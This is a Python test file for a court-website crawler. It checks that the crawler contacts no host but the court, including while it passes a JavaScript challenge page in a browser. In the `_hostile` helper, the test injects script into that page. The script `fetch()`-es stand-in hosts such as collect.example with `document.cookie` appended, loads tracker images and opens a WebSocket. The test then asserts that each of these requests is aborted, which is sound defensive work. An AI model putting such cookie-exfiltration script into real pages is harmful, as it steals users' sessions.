"""Nothing leaves for any host but the court, from any component (issue 24).

A whole crawl of a court behind the replica's JavaScript gate, with the browser on, runs with
every other host made to land on a catch-all listener: ``HTTP(S)_PROXY`` for Scrapy and its
libraries (``tldextract`` fetches the public suffix list with ``requests``, which honours them)
and Chromium's proxy for every name; only 127.0.0.1 goes direct (``NO_PROXY``, and Chromium's
own loopback bypass). The challenge page is made hostile: it loads images from another name and
from another local port, ``fetch()``-es both with ``document.cookie`` and opens a WebSocket.
The crawl must harvest the court equal to its ground truth while the catch-all and the other
local server receive nothing, and nothing is cached in ``$HOME``.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from reference.sipp_site.challenge import COOKIE
from reference.sipp_site.testing import running_replica
from tests.support.browser import needs_chromium
from tests.support.harvest_run import crawl_command, exported, mismatches, truth_by_key
from tests.support.paths import REPO
from tests.support.servers import catch_all, counting_server, rewriting_proxy

pytestmark = [pytest.mark.slow, pytest.mark.browser]

COURT = "pn-gate"
CHALLENGE_TITLE = b"<title>Just a moment...</title>"


def _hostile(elsewhere: str) -> bytes:
    """What the challenge page is given: requests to a name and to another local port."""
    return (
        f'<img src="http://tracker.example/pixel.png">'
        f'<img src="{elsewhere}pixel.png">'
        "<script>"
        'fetch("http://collect.example/c?" + document.cookie, {mode: "no-cors"});'
        f'fetch("{elsewhere}c?" + document.cookie, {{mode: "no-cors"}});'
        'try { new WebSocket("ws://socket.example/s"); } catch (e) {}'
        "</script>"
    ).encode()


@needs_chromium
def test_a_crawl_and_a_challenge_pass_connect_to_nothing_but_the_court(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    workspace = tmp_path / "ws"
    with (
        running_replica(cases=6, seed=5, challenge=True, court_id=COURT) as replica,
        catch_all() as other_hosts,
        counting_server() as elsewhere,
    ):
        truth = truth_by_key(replica.truth_path(tmp_path))
        injected: list[str] = []

        def rewrite(path: str, status: int, body: bytes) -> bytes:
            if CHALLENGE_TITLE not in body:
                return body
            injected.append(path)
            return body.replace(b"<body>", b"<body>" + _hostile(elsewhere.url), 1)

        with rewriting_proxy(replica.port, rewrite) as court:
            env = {
                **os.environ,
                "HOME": str(home),
                "XDG_CACHE_HOME": str(home / ".cache"),
                "NO_PROXY": "127.0.0.1,localhost",
                "no_proxy": "127.0.0.1,localhost",
            }
            env.pop("TLDEXTRACT_CACHE", None)
            for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
                env[name] = env[name.lower()] = other_hosts.url
            # Playwright proxies loopback too unless told: the court (127.0.0.1) goes direct
            launch = {"proxy": {"server": other_hosts.url, "bypass": "127.0.0.1"}}
            cmd = crawl_command(
                court.url,
                COURT,
                workspace,
                settings={
                    "SIPP_BROWSER": "challenge",
                    "SIPP_BROWSER_COOKIES": COOKIE,
                    "PLAYWRIGHT_LAUNCH_OPTIONS": json.dumps(launch),
                    "DOWNLOAD_TIMEOUT": "20",
                },
            )
            proc = subprocess.run(
                cmd, cwd=REPO, env=env, capture_output=True, text=True, timeout=300, check=False
            )
    log = proc.stderr
    assert proc.returncode == 0, log[-4000:]
    assert injected, "the challenge page was never served"
    # the page asked for four things off the court; each was aborted before a connection
    assert other_hosts.hits == [], other_hosts.hits
    assert elsewhere.hits == [], elsewhere.hits
    aborted = re.search(r"'harvest/browser/aborted_off_court': (\d+)", log)
    assert aborted is not None, log[-3000:]
    assert int(aborted.group(1)) >= 4  # two images, two fetch() calls, per challenge page
    assert "http://tracker.example/pixel.png, off the court: not sent" in log
    # tldextract neither fetched the suffix list nor cached it outside the workspace
    assert [p for p in home.rglob("*") if "tldextract" in p.name] == []
    assert "Traceback" not in log
    assert mismatches(exported(workspace), truth) == {}


def test_the_cookie_middleware_decides_public_suffixes_offline(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Scrapy's own extractor connects to publicsuffix.org, then GitHub, and caches in $HOME."""
    import scrapy.downloadermiddlewares.cookies as scrapy_cookies

    import harvest.sessions  # noqa: F401  (installs the offline extractor)
    from harvest.suffix_list import OFFLINE_EXTRACT

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    with catch_all() as other_hosts:
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
            monkeypatch.setenv(name, other_hosts.url)
        assert scrapy_cookies._split_domain is OFFLINE_EXTRACT
        assert scrapy_cookies._is_public_domain("go.id")
        assert scrapy_cookies._is_public_domain("blogspot.com")  # a private-domain suffix
        assert not scrapy_cookies._is_public_domain("sipp.pn-jakartapusat.go.id")
        assert not scrapy_cookies._is_public_domain("127.0.0.1")
    assert other_hosts.hits == []
    assert list(tmp_path.iterdir()) == []
